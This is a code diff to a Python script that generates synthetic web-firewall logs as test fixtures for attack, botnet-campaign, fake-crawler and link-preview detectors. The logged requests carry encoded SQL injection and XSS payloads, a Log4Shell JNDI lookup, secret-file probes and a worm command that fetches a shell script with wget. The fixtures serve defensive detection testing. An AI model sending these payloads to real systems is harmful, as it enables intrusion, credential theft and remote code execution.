@@ -153,6 +153,11 @@ def waf() -> None:
     for i in range(3):
         out.append(line(at(600 + 10 * i), "192.0.2.53", "/login", 403, result="Error", query="u=admin%27--"))
     out.append(line(at(700), "192.0.2.53", "/login", result="Miss"))
+    # E: never blocked; two 200s on /search with a payload the client encoded twice (its %2527 is
+    # logged %252527: client-side depth 2).
+    for i in range(2):
+        out.append(line(at(1800 + 30 * i), "192.0.2.54", "/search", query="q=1%252527%252520UNION%252520SELECT%252520NULL--",
+                        result="Miss"))
     out += benign_lines(0)
     write("waf.log", out)
 
@@ -270,6 +275,129 @@ def credential() -> None:
     write("credential.log", out)
 
 
+def attacks() -> None:
+    """Attack payloads (cf_attacks.test); the family of each comes from data/attack_rules."""
+    out = []
+    blocked = dict(status=403, result="Error", detailed="InvalidRequestBlocked")
+    union = "id=1%2527%2520UNION%2520SELECT%2520username,password%2520FROM%2520users--"
+    # A: 3 sqli payloads on /products: two refused, then one answered 200.
+    out.append(line(at(0), "192.0.2.10", "/products", query=union, **blocked))
+    out.append(line(at(10), "192.0.2.10", "/products", query="id=1%2520AND%2520SLEEP(5)--", **blocked))
+    out.append(line(at(20), "192.0.2.10", "/products", query=union, result="Miss"))
+    # B: 4 xss payloads on /search, all refused.
+    for i, q in enumerate(["q=%253Cscript%253Ealert(1)%253C/script%253E", "q=%2522%253E%253Csvg/onload=alert(1)%253E"] * 2):
+        out.append(line(at(60 + 10 * i), "192.0.2.11", "/search", query=q, **blocked))
+    # C: two secret-file probes, 404.
+    out.append(line(at(120), "192.0.2.12", "/.env", 404, result="Error"))
+    out.append(line(at(125), "192.0.2.12", "/.git/config", 404, result="Error"))
+    # D: Log4Shell in the user agent, once, answered 200.
+    out.append(line(at(180), "192.0.2.13", "/", ua="$%7Bjndi:ldap://198.51.100.23/a%7D"))
+    # E: /.env twice, redirected (301): a redirect of a probed path is not a hit.
+    for i in range(2):
+        out.append(line(at(240 + 5 * i), "192.0.2.14", "/.env", 301, result="Redirect"))
+    # F: 2 sqli payloads that made the origin fail (500).
+    for i in range(2):
+        out.append(line(at(300 + 5 * i), "192.0.2.15", "/products", 500, query="id=1%2520AND%2520SLEEP(5)--", result="Error",
+                        detailed="Error"))
+    # A person: words that look like SQL, an apostrophe, a tag with a space (no payload).
+    out.append(line(at(400), "198.51.100.60", "/search", query="q=select+a+union+station"))
+    out.append(line(at(410), "198.51.100.60", "/search", query="q=it%2527s+a+cat"))
+    out.append(line(at(420), "198.51.100.60", "/tags/summer%2520sale"))
+    out += benign_lines(0)
+    write("attacks.log", out)
+
+
+def campaigns() -> None:
+    """Many clients sharing a signature (cf_campaigns.test)."""
+    out = []
+    bot_ua = "Mozilla/5.0%20(Windows%20NT%2010.0;%20Win64;%20x64)%20AppleWebKit/537.36%20(KHTML,%20like%20Gecko)%20Chrome/96.0.4664.110%20Safari/537.36"
+    worm_ua = "Hello,%20world"
+    iis_ua = "Mozilla/4.0%20(compatible;%20MSIE%205.01;%20Windows%20NT%205.0)"
+    # A person loads /login (so it is a page) and signs in 30 s later.
+    out.append(line(at(3600), "198.51.100.21", "/login", result="Miss"))
+    out.append(line(at(3630), "198.51.100.21", "/login", 302, method="POST", result="Miss"))
+    # Login botnet: 4 addresses, one POST /login each without loading it, 401.
+    for i in range(4):
+        out.append(line(at(4200 + 60 * i), f"203.0.113.{1 + i}", "/login", 401, method="POST", ua=bot_ua, result="Error"))
+    # Contact-form spam: 3 addresses, GET /contact then POST 1 s later, twice each (303).
+    for i in range(3):
+        for k in range(2):
+            t = 7200 + 100 * i + 40 * k
+            out.append(line(at(t), f"192.0.2.{30 + i}", "/contact", result="Miss"))
+            out.append(line(at(t + 1), f"192.0.2.{30 + i}", "/contact", 303, method="POST", result="Miss"))
+    # Two more form posters on /newsletter: under min_members.
+    for i in range(2):
+        out.append(line(at(7800 + 100 * i), f"192.0.2.{40 + i}", "/newsletter", result="Miss"))
+        out.append(line(at(7801 + 100 * i), f"192.0.2.{40 + i}", "/newsletter", 303, method="POST", result="Miss"))
+    # Worm: 3 addresses, the same exploit once each, 404.
+    for i in range(3):
+        out.append(line(at(10800 + 300 * i), f"203.0.113.{50 + i}", "/shell", 404, ua=worm_ua,
+                        query="cd+/tmp;wget+http://192.0.2.77/x.sh", result="Error", version="HTTP/1.0"))
+    # IIS-worm probe sequence: 3 addresses, the same two probes, 404.
+    for i in range(3):
+        out.append(line(at(14400 + 300 * i), f"203.0.113.{60 + i}", "/scripts/root.exe", 404, ua=iis_ua, query="/c+dir", result="Error"))
+        out.append(line(at(14402 + 300 * i), f"203.0.113.{60 + i}", "/c/winnt/system32/cmd.exe", 404, ua=iis_ua, query="/c+dir",
+                        result="Error"))
+    # One user agent, three addresses, each probing a different secret file once.
+    for i, p in enumerate(["/.env", "/.git/config", "/backup.sql"]):
+        out.append(line(at(18000 + 60 * i), f"203.0.113.{70 + i}", p, 404, ua="EvilBot/1.0", result="Error"))
+    # Three addresses probing only /wp-login.php (no WordPress here), 404.
+    for i in range(3):
+        out.append(line(at(19800 + 600 * i), f"203.0.113.{80 + i}", "/wp-login.php", 404, ua="Mozilla/5.0%20(X11;%20Ubuntu;%20Linux%20x86_64;%20rv:62.0)%20Gecko/20100101%20Firefox/62.0",
+                        result="Error"))
+    # A verified Googlebot following a link to /.env: never a campaign member.
+    out.append(line(at(18300), "66.249.66.1", "/.env", 404, ua=GOOGLEBOT, result="Error"))
+    out.append(line(at(18310), "66.249.66.1", "/", ua=GOOGLEBOT))
+    out += benign_lines(0)
+    write("campaigns.log", out)
+
+
+def crawlers() -> None:
+    """Crawler claims (cf_fake_crawlers.test) and benign heavy clients (cf_hunt.test)."""
+    out = []
+    bingbot = "Mozilla/5.0%20(compatible;%20bingbot/2.0;%20+http://www.bing.com/bingbot.htm)"
+    # A Googlebot outside Google's ranges walking 12 product pages; another sending 2 requests.
+    for i in range(12):
+        out.append(line(at(60 * i), "203.0.113.80", f"/products/p-{i}", ua=GOOGLEBOT, result="Miss"))
+    for i in range(2):
+        out.append(line(at(30 + 60 * i), "203.0.113.81", f"/products/q-{i}", ua=GOOGLEBOT, result="Miss"))
+    # A bingbot outside Microsoft's ranges, once, 404.
+    out.append(line(at(90), "198.51.100.90", "/old-page", 404, ua=bingbot, result="Error"))
+    # Verified: Googlebot in 66.249.66.0/24 fetching 120 pages within 5 minutes (a per-IP flood by
+    # cf_ddos's numbers) and bingbot in 157.55.39.0/24.
+    for i in range(120):
+        out.append(line(at(3600 + 2 * i), "66.249.66.1", f"/blog/post-{i}", ua=GOOGLEBOT))
+    out.append(line(at(3700), "157.55.39.43", "/", ua=bingbot))
+    # A reader: one gallery page pulling 109 thumbnails within a minute (110 requests in minute
+    # 02:00), against a background of one request a minute from 01:30 to 02:29 (198.51.100.71).
+    out.append(line(at(7200), "198.51.100.70", "/gallery", result="Miss"))
+    for i in range(109):
+        out.append(line(at(7201 + i / 2), "198.51.100.70", f"/img/thumbs/{i}.webp"))
+    for m in range(60):
+        out.append(line(at(5400 + 60 * m + 30), "198.51.100.71", "/"))
+    out += benign_lines(0)
+    write("crawlers.log", out)
+
+
+def previews() -> None:
+    """Link previews of a sensitive file (cf_hunt.test, cf_blocklist.test): a chat app fetching a
+    posted link is not a campaign member; a forged preview user agent sending a payload is."""
+    out = []
+    slack = "Slackbot-LinkExpanding%201.0%20(+https://api.slack.com/robots)"
+    # Three clients download the exposed database dump, one request each, 200.
+    for i, ip in enumerate(("203.0.113.101", "203.0.113.102", "203.0.113.103")):
+        out.append(line(at(60 * i), ip, "/backup.sql", ua="curl/8.4.0", result="Miss"))
+    # Slack unfurls the link twice (206, a ranged fetch): one address twice, another once.
+    out.append(line(at(200), "198.51.100.120", "/backup.sql", 206, ua=slack, result="Miss"))
+    out.append(line(at(201), "198.51.100.120", "/backup.sql", 206, ua=slack, result="Miss"))
+    out.append(line(at(230), "198.51.100.121", "/backup.sql", 206, ua=slack, result="Miss"))
+    # The same user agent downloading the dump and sending a SQL injection: not a link preview.
+    out.append(line(at(300), "198.51.100.122", "/backup.sql", ua=slack, result="Miss"))
+    out.append(line(at(310), "198.51.100.122", "/search", ua=slack, query="q=1%27%20UNION%20SELECT%20NULL--", result="Miss"))
+    out += benign_lines(0)
+    write("previews.log", out)
+
+
 def benign() -> None:
     write("benign.log", benign_lines(0))
 
@@ -307,5 +435,6 @@ def parquet() -> None:
 
 
 if __name__ == "__main__":
-    for f in (summary, scraper, cache_busting, waf, errors, ddos, geo, egress, protocol, scanners, credential, benign, parquet):
+    for f in (summary, scraper, cache_busting, waf, errors, ddos, geo, egress, protocol, scanners, credential, attacks,
+              campaigns, crawlers, benign, previews, parquet):
         f()
